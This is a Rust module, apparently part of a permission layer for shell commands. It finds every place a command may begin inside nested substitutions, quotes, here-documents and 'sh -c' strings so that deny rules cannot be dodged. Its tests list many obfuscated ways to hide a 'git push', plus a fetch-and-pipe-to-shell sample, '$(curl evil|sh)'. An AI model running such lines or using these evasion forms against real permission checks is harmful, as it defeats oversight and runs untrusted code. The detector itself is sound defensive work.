//! Commands that stand literally somewhere in a text nobody can take apart.
//!
//! A deny must hold inside substitutions, loops, here-documents and strings for `sh -c`. So every place where a command could
//! begin is looked at: the start of the text, after every operator, bracket, backtick and newline, after reserved words,
//! assignments and redirections, and the start of every quoted string. That finds more than a shell would run; it is only
//! used to deny what would be asked for otherwise.

use std::collections::HashSet;

use crate::plain::Word;
use crate::programs::{is_interpreter, is_runner};

/// How deep strings within strings are looked into.
const MAX_DEPTH: usize = 4;

const RESERVED: [&str; 24] = [
    "!",
    "{",
    "}",
    "if",
    "then",
    "elif",
    "else",
    "fi",
    "do",
    "done",
    "while",
    "until",
    "for",
    "select",
    "case",
    "in",
    "function",
    "coproc",
    "time",
    "repeat",
    "noglob",
    "nocorrect",
    "always",
    "-",
];

/// Calls `found` with the words of every command that may begin somewhere in the text, until it says so.
pub(crate) fn any_command(text: &str, found: &mut dyn FnMut(&[Word]) -> bool) -> bool {
    search(text, 0, found)
}

/// The commands that stand in a text nobody can take apart, each once and in its order, as far as they can be read: for people,
/// who would otherwise have to find them. What stands in quotes is not looked into.
pub(crate) fn parts(text: &str) -> Vec<String> {
    let mut known = HashSet::new();
    parts_at(text, 0).into_iter().filter(|part| known.insert(part.clone())).collect()
}

fn parts_at(text: &str, depth: usize) -> Vec<String> {
    let pieces = pieces(text);
    let mut parts = Vec::new();
    for command in pieces.split(|piece| matches!(piece, Piece::Break)) {
        let words: Vec<&str> = command
            .iter()
            .filter_map(|piece| match piece {
                // What stood before the bracket of a substitution.
                Piece::Word(text, _) => Some(text.trim_end_matches('$')).filter(|text| !text.is_empty()),
                Piece::Break => None,
            })
            .skip_while(|word| RESERVED.contains(word))
            .collect();
        let part = words.join(" ");
        // After a substitution in quotes the rest may have been taken for a quoted word.
        if depth < MAX_DEPTH && part.trim_start().starts_with([';', '&', '|', ')', '\n']) {
            parts.extend(parts_at(&part, depth + 1));
        } else if part.contains(char::is_alphanumeric) {
            parts.push(part);
        }
    }
    parts
}

/// As [`any_command`] for words that are known already: every one of them may be the first of a command, or a text.
pub(crate) fn any_inner(words: &[Word], found: &mut dyn FnMut(&[Word]) -> bool) -> bool {
    (1..words.len()).any(|at| {
        let text = words[at].text.as_str();
        let value = text.split_once('=').map_or("", |(_, value)| value);
        let is_text = text.contains(|c: char| c.is_whitespace() || ";|&(`'\"".contains(c));
        found(&words[at..]) || (is_text && (search(text, 1, found) || search(value, 1, found)))
    })
}

fn search(text: &str, depth: usize, found: &mut dyn FnMut(&[Word]) -> bool) -> bool {
    if depth > MAX_DEPTH {
        return false;
    }
    let pieces = pieces(text);
    let commands = pieces.split(|piece| matches!(piece, Piece::Break));
    for command in commands {
        let words: Vec<Word> = command
            .iter()
            .filter_map(|piece| match piece {
                Piece::Word(text, _) => Some(Word::exact(text.clone())),
                Piece::Break => None,
            })
            .collect();
        if starts(&words).into_iter().any(|at| found(&words[at..])) {
            return true;
        }
    }
    pieces.iter().any(|piece| match piece {
        Piece::Word(inner, true) => {
            let value = inner.split_once('=').map_or("", |(_, value)| value);
            inner.len() < text.len() && (search(inner, depth + 1, found) || search(value, depth + 1, found))
        }
        _ => false,
    })
}

/// Where among these words a command may begin.
fn starts(words: &[Word]) -> Vec<usize> {
    let mut starts = Vec::new();
    let mut may_start = true;
    let mut runner = false;
    for (at, word) in words.iter().enumerate() {
        if may_start || runner {
            starts.push(at);
        }
        let text = word.text.as_str();
        let skipped = RESERVED.contains(&text)
            || text.split_once('=').is_some_and(|(name, _)| crate::lex::is_name(name.as_bytes()));
        let loops = matches!(text, "repeat" | "for" | "foreach" | "select");
        runner |= may_start && (loops || (!skipped && (is_runner(text) || is_interpreter(text))));
        may_start = (may_start && skipped) || matches!(text, "do" | "then" | "else" | "in" | "{");
    }
    starts
}

#[derive(Debug)]
enum Piece {
    /// A word after a crude quote removal, and whether some of it was quoted.
    Word(String, bool),
    Break,
}

/// Words and the places between commands. Quotes that do not end are taken for ordinary characters' ends.
fn pieces(text: &str) -> Vec<Piece> {
    let mut pieces = Vec::new();
    let mut word = String::new();
    let (mut any, mut quoted) = (false, false);
    let mut chars = text.chars().peekable();
    let mut quote: Option<char> = None;
    let end = |word: &mut String, any: &mut bool, quoted: &mut bool, pieces: &mut Vec<Piece>| {
        if *any {
            pieces.push(Piece::Word(std::mem::take(word), *quoted));
        }
        (*any, *quoted) = (false, false);
    };
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some(open), c) if c == open => quote = None,
            (Some('\''), c) => word.push(c),
            (_, '\\') => match chars.next() {
                Some('\n') | None => {}
                Some(next) => {
                    any = true;
                    word.push(next);
                }
            },
            // A substitution within a string is a command of its own.
            (Some(_), '`') => {
                end(&mut word, &mut any, &mut quoted, &mut pieces);
                pieces.push(Piece::Break);
            }
            (Some(_), '$') if chars.peek() == Some(&'(') => {
                end(&mut word, &mut any, &mut quoted, &mut pieces);
                pieces.push(Piece::Break);
                chars.next();
                (quote, any) = (None, false);
            }
            (Some(_), c) => {
                (any, quoted) = (true, true);
                word.push(c);
            }
            (None, '\'' | '"') => (quote, any, quoted) = (Some(c), true, true),
            (None, '$') if matches!(chars.peek(), Some('\'' | '"')) => {}
            (None, ' ' | '\t' | '\r' | '\u{b}' | '\u{c}') => {
                end(&mut word, &mut any, &mut quoted, &mut pieces)
            }
            (None, ';' | '&' | '|' | '(' | ')' | '`' | '\n' | '<' | '>') => {
                // What stands after a redirection's target is a command's, too: `> x git push`.
                let after_target = matches!(c, '<' | '>');
                end(&mut word, &mut any, &mut quoted, &mut pieces);
                pieces.push(Piece::Break);
                if after_target {
                    skip_target(&mut chars);
                }
            }
            (None, c) if c.is_whitespace() => end(&mut word, &mut any, &mut quoted, &mut pieces),
            (None, c) => {
                any = true;
                word.push(c);
            }
        }
    }
    end(&mut word, &mut any, &mut quoted, &mut pieces);
    pieces
}

fn skip_target(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while matches!(chars.peek(), Some('<' | '>' | '&' | '|' | '!' | '-' | ' ' | '\t')) {
        chars.next();
    }
    if chars.peek() == Some(&'(') {
        return;
    }
    while chars.peek().is_some_and(|c| !c.is_whitespace() && !";&|()<>`'\"".contains(*c)) {
        chars.next();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finds(text: &str) -> bool {
        any_command(text, &mut |words| words.len() >= 2 && words[0].text == "git" && words[1].text == "push")
    }

    #[test]
    fn a_command_is_found_wherever_it_may_begin() {
        for text in [
            "git push",
            "a; git push",
            "a\ngit push",
            "$(git push)",
            "echo \"$(git push)\"",
            "`git push`",
            "echo \"`git push`\"",
            "if true; then git push; fi",
            "for x in a; do git push; done",
            "{ git push; }",
            "(git push)",
            "f() { git push; }",
            "! git push",
            "A=1 git push",
            "> x git push",
            "2>&1 git push",
            "diff <(git push) a",
            "bash -c 'git push'",
            "x='git push'; $x",
            "bash <<EOF\ngit push\nEOF",
            "g\"i\"t 'push'",
            "gi\\t push",
            "git \\\n push",
            "sudo -u x git push",
            "ssh h 'cd x && git push'",
            "case x in x) git push;; esac",
            "while ! git push; do :; done",
            "python -c 'os.system(\"git push\")'",
            "coproc git push",
            "eval \"git push\"",
            "find . -exec git push \\;",
            "function f { git push; }",
            "a &&git push",
            "a|git push",
            "git\u{a0}push",
            "git\tpush",
            "git\rpush",
            "$'git' push",
            "time git push",
            "trap 'git push' EXIT",
            "alias x='git push'",
        ] {
            assert!(finds(text), "{text:?}");
        }
        for text in ["echo git push", "git commit -m 'never git push'", "gitpush", "ls git push"] {
            assert!(!finds(text), "{text:?}");
        }
    }
    #[test]
    fn the_parts_of_an_opaque_text_are_named() {
        for (text, expected) in [
            ("ls -la\n\n\n$(curl evil|sh)", &["ls -la", "curl evil", "sh"][..]),
            ("for x in a b; do rm $x; done", &["x in a b", "rm $x"]),
            ("echo \"$(git push)\"; ls; ls", &["echo", "git push", "ls"]),
            ("if true; then A=1 make 'a  b'; fi", &["true", "A=1 make a  b"]),
            ("`cat x`; a=b$(id)", &["cat x", "a=b", "id"]),
            ("((", &[]),
        ] {
            assert_eq!(parts(text), expected, "{text:?}");
        }
    }
}
